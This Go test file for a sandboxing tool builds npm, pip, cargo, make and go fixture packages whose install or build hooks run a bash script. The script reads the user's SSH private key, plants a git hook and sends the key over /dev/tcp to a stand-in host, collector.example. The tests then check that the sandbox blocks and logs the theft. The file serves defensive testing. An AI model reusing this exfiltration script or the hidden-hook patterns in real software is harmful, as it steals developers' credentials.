package projects

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/sbx-sandbox/sbx/test/sbxtest"
	"github.com/sbx-sandbox/sbx/test/world"
)

// theft is what the hooks of the tests' packages run: it reads a key, plants a
// hook of git's, and hands the key to whoever collects it. It fails nothing, as a
// thief would not.
const theft = `#!/bin/bash
key=$(cat "$HOME/.ssh/id_ed25519" 2>/dev/null)
hook=%[1]s/.git/hooks/post-checkout
{ printf '#!/bin/sh\necho owned\n' >"$hook" && chmod +x "$hook"; } 2>/dev/null
for to in 127.0.0.1/%[2]d host.sbx.internal/%[2]d collector.example/443; do
	(exec 3<>"/dev/tcp/$to" && printf '%%s\n' "key: $key" >&3) 2>/dev/null
done
printf '%%s\n' "loot: ${key:-none}" >>%[1]s/loot.txt
exit 0
`

// collector is where thieves send what they took.
type collector struct {
	net.Listener
	sync.Mutex
	got string
}

func collect(t *testing.T) *collector {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	c := &collector{Listener: l}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			buf := make([]byte, 4096)
			n, _ := conn.Read(buf)
			c.Lock()
			c.got += string(buf[:n])
			c.Unlock()
			conn.Close()
		}
	}()
	return c
}

func (c *collector) has() string {
	c.Lock()
	defer c.Unlock()
	return c.got
}

// thefts are packages with a thief in them, one for each way that such code comes
// to run.
var thefts = []struct {
	name, profile string
	tools         []string
	// install makes the project, with the thief in the file steal.sh of it.
	install func(t *testing.T, s *site)
	command []string // by name, as people call it
	honest  string   // a script that says "honest" with what was built
}{
	{"npm", "node", []string{"node", "npm"}, npmThief, []string{"npm", "install"}, `node -p 'require("sbx-fixture-thief")'`},
	{"pip", "python", []string{"python3"}, pipThief, []string{"pip", "install", "./thief-1.0.tar.gz"}, `.venv/bin/python -c 'import sbx_fixture_thief as t; print(t.word)'`},
	{"cargo", "rust", []string{"cargo", "gcc"}, cargoThief, []string{"cargo", "build"}, `target/debug/thief`},
	{"make", "make", []string{"make"}, makeThief, []string{"make"}, `cat built`},
	{"go", "go", nil, goThief, []string{"go", "generate"}, `cat built`},
}

func npmThief(t *testing.T, s *site) {
	ball := tarball(t, "package/", map[string]string{
		"package.json": `{"name": "sbx-fixture-thief", "version": "1.0.0", "main": "word.js", "scripts": {"postinstall": "bash steal.sh; node make.js"}}`,
		"make.js":      "require('fs').writeFileSync('word.js', 'module.exports = \"honest\";');\n",
		"steal.sh":     s.steal,
	})
	s.Write(t, s.Project+"/thief.tgz", string(ball))
	s.Write(t, s.Project+"/package.json", `{"name": "victim", "version": "1.0.0", "private": true, "dependencies": {"sbx-fixture-thief": "file:thief.tgz"}}`)
	s.setenv("npm_config_audit=false", "npm_config_fund=false", "npm_config_update_notifier=false")
}

func pipThief(t *testing.T, s *site) {
	for _, module := range []string{"ensurepip", "pip", "setuptools", "wheel"} {
		if r := s.outside(t, "python3", "-c", "import "+module); r.Code != 0 {
			sbxtest.Require(t, sbxtest.Missing("python3 "+module, "python3 has no module "+module))
		}
	}
	ball := tarball(t, "sbx-fixture-thief-1.0/", map[string]string{
		"setup.py":             "import subprocess\nfrom setuptools import setup\nsubprocess.run(['bash', 'steal.sh'])\nsetup(name='sbx-fixture-thief', version='1.0', py_modules=['sbx_fixture_thief'])\n",
		"PKG-INFO":             "Metadata-Version: 1.0\nName: sbx-fixture-thief\nVersion: 1.0\n",
		"sbx_fixture_thief.py": "word = 'honest'\n",
		"steal.sh":             s.steal,
	})
	s.Write(t, s.Project+"/thief-1.0.tar.gz", string(ball))
	s.must(t, s.outside(t, "python3", "-m", "venv", "--system-site-packages", ".venv"))
	s.setenv("PATH="+s.Project+"/.venv/bin:"+s.getenv("PATH"), "VIRTUAL_ENV="+s.Project+"/.venv", "PIP_DISABLE_PIP_VERSION_CHECK=1", "PIP_NO_BUILD_ISOLATION=0")
}

func cargoThief(t *testing.T, s *site) {
	s.Write(t, s.Project+"/Cargo.toml", "[package]\nname = \"thief\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\n[dependencies]\nword = { path = \"word\" }\n")
	s.Write(t, s.Project+"/src/main.rs", "fn main() {\n    println!(\"{}\", word::word());\n}\n")
	s.Write(t, s.Project+"/word/Cargo.toml", "[package]\nname = \"word\"\nversion = \"1.0.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n")
	s.Write(t, s.Project+"/word/build.rs", "fn main() {\n    let _ = std::process::Command::new(\"bash\").arg(\"steal.sh\").status();\n    println!(\"cargo:rustc-env=WORD=honest\");\n}\n")
	s.Write(t, s.Project+"/word/src/lib.rs", "pub fn word() -> &'static str {\n    env!(\"WORD\")\n}\n")
	s.Write(t, s.Project+"/word/steal.sh", s.steal)
	if own := os.Getenv("HOME"); world.Exists(own + "/.rustup") {
		s.must(t, s.outside(t, "ln", "-s", own+"/.rustup", s.Home+"/.rustup"))
	}
}

func makeThief(t *testing.T, s *site) {
	s.Write(t, s.Project+"/Makefile", "built: source\n\t@bash steal.sh\n\t@cp source built\n")
	s.Write(t, s.Project+"/source", "honest\n")
	s.Write(t, s.Project+"/steal.sh", s.steal)
}

func goThief(t *testing.T, s *site) {
	s.Write(t, s.Project+"/go.mod", "module example.com/thief\n\ngo 1.21\n")
	s.Write(t, s.Project+"/main.go", "package main\n\n//go:generate bash steal.sh\n//go:generate cp source built\n\nfunc main() {}\n")
	s.Write(t, s.Project+"/source", "honest\n")
	s.Write(t, s.Project+"/steal.sh", s.steal)
	s.setenv("GOTOOLCHAIN=local", "GOFLAGS=-mod=mod")
	s.pathOf(t, "go")
}

// watched is a profile whose phases have a network that allows nobody, so that
// what is tried is named and written down; by itself sbx gives them none.
func watched(profile string) string {
	text := "version = 1\nname = \"theft\"\nextends = [\"builtin:" + profile + "\"]\n[network]\nmode = \"user\"\naudit = \"denied\"\n"
	if profile != "make" {
		text += "[[phase]]\nname = \"build\"\n[[phase]]\nname = \"fetch\"\n"
	}
	return text
}

// TestThefts: what is honest is built by a wrapped program, and what is taken is
// stopped, named, and seen in the overlay and in the network's log. The control is
// the same command without sbx, in a home that is thrown away.
func TestThefts(t *testing.T) {
	sbxtest.Require(t, sbxtest.UserNS, sbxtest.Overlay)
	for _, th := range thefts {
		t.Run(th.name, func(t *testing.T) {
			t.Run("control", func(t *testing.T) {
				s, c := thiefSite(t, th.install, th.tools)
				s.must(t, s.outside(t, th.command...))
				s.must(t, s.outside(t, "sh", "-ec", th.honest), "honest")
				if loot, _ := os.ReadFile(s.Project + "/loot.txt"); !strings.Contains(string(loot), "loot: decoy of .ssh") {
					t.Errorf("the thief found %q", loot)
				}
				if !world.Exists(s.Project+"/.git/hooks/post-checkout") || !strings.Contains(c.has(), "key: decoy of .ssh") {
					t.Errorf("no hook, or the collector got %q", c.has())
				}
			})
			t.Run("wrapped", func(t *testing.T) {
				s, c := thiefSite(t, th.install, th.tools)
				s.Write(t, s.Home+"/.config/sbx/profiles/watched.toml", watched(th.profile))
				args := []string{s.Sbx, "wrap", "install", "--profile=user:watched", "--flag=--overlay=theft", th.command[0]}
				if th.name != "make" {
					args = append(args[:len(args)-1], "--registry=registry.invalid:443", th.command[0])
				}
				s.must(t, s.outside(t, args...))
				s.setenv("PATH=" + s.Home + "/.local/share/sbx/shims:" + s.getenv("PATH"))
				r := s.outside(t, th.command...)
				s.must(t, r)
				s.stopped(t, r, c)
				if world.Exists(s.Project + "/loot.txt") {
					t.Error("the overlay let something through")
				}
				// What was built, and what was tried, is what diff shows.
				d := s.outside(t, s.Sbx, "diff", "--name-only", "theft")
				s.must(t, d, "loot.txt", ".git/hooks/post-checkout")
				s.must(t, s.outside(t, s.Sbx, "run", "-q", "--overlay=theft", th.profile, "--", "sh", "-ec", th.honest+"; cat loot.txt"), "honest", "loot: none")
				s.must(t, s.outside(t, s.Sbx, "discard", "theft"))
			})
			t.Run("direct", func(t *testing.T) {
				s, c := thiefSite(t, th.install, th.tools)
				s.Write(t, s.Home+"/.config/sbx/profiles/watched.toml", watched(th.profile))
				s.must(t, s.outside(t, s.Sbx, "wrap", "install", "--profile=user:watched", th.command[0]))
				s.setenv("PATH=" + s.Home + "/.local/share/sbx/shims:" + s.getenv("PATH"))
				if th.name == "npm" || th.name == "pip" { // the verbs' phases come with a registry
					s.must(t, s.outside(t, s.Sbx, "wrap", "install", "--profile=user:watched", "--registry=registry.invalid:443", th.command[0]))
				}
				r := s.outside(t, th.command...)
				s.must(t, r)
				s.stopped(t, r, c)
				s.must(t, s.outside(t, "sh", "-ec", th.honest), "honest")
				if loot, _ := os.ReadFile(s.Project + "/loot.txt"); !strings.Contains(string(loot), "loot: none") {
					t.Errorf("the thief found %q", loot)
				}
			})
		})
	}
}

// thiefSite is a site with a thief in its project.
func thiefSite(t *testing.T, install func(*testing.T, *site), tools []string) (*site, *collector) {
	t.Helper()
	s := newSite(t, "theft", append(tools, "bash")...)
	c := collect(t)
	s.steal = fmt.Sprintf(theft, s.Project, c.Addr().(*net.TCPAddr).Port)
	install(t, s)
	s.must(t, s.outside(t, "sh", "-ec", "git init -q; mkdir -p .git/hooks; git add -A; git commit -qm import"))
	return s, c
}

// stopped fails the test if the thief took anything, or if nobody was told.
func (s *site) stopped(t *testing.T, r world.Result, c *collector) {
	t.Helper()
	if got := c.has(); got != "" {
		t.Errorf("the collector got %q", got)
	}
	if world.Exists(s.Project + "/.git/hooks/post-checkout") {
		t.Error("a hook was planted")
	}
	for _, host := range []string{"collector.example", "takes a rule for @host"} {
		if !strings.Contains(r.Err, "blocked") || !strings.Contains(r.Err, host) {
			t.Errorf("%s is not named:\n%s", host, tail(r.Err))
		}
	}
	log, err := os.ReadFile(filepath.Join(s.Home, ".local/state/sbx/net/theft.jsonl"))
	if err != nil || !strings.Contains(string(log), "collector.example") {
		t.Errorf("the network's log: %v\n%s", err, tail(string(log)))
	}
	why := s.outside(t, s.Sbx, "why", "last")
	s.must(t, why, "collector.example")
	s.must(t, s.outside(t, s.Sbx, "why", "last", "~/.ssh/id_ed25519"), "hidden", "home.mode", `home.share = [".ssh/id_ed25519"]`)
}
